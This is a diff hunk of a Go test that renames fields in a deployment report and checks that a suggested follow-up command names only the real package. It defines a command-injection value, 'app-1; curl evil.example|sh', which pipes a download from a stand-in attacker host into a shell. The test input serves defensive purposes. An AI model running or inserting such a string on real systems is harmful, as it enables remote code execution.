@@ -20,8 +20,8 @@ func TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp(t *testing.T) {
 	const evil = "app-1; curl evil.example|sh"
 	for _, outcome := range []event.Outcome{event.Split, event.RolledBack} {
 		r := event.Report{Outcome: outcome, Stage: "live", Package: "app-2", Hosts: []event.HostReport{
-			{Host: "web1", Known: true, Was: "app-1", Back: "app-1", Linked: "app-1", Degraded: true},
-			{Host: "web2", Known: true, Was: evil, Back: evil, Linked: evil, Degraded: true},
+			{Host: "web1", LinkKnown: true, Was: "app-1", RollbackTo: "app-1", Linked: "app-1", Degraded: true},
+			{Host: "web2", LinkKnown: true, Was: evil, RollbackTo: evil, Linked: evil, Degraded: true},
 		}}
 		next := fmt.Sprint(AfterRun(r))
 		assert.Contains(t, next, "app-1 --hosts web1", "what is a package is named")
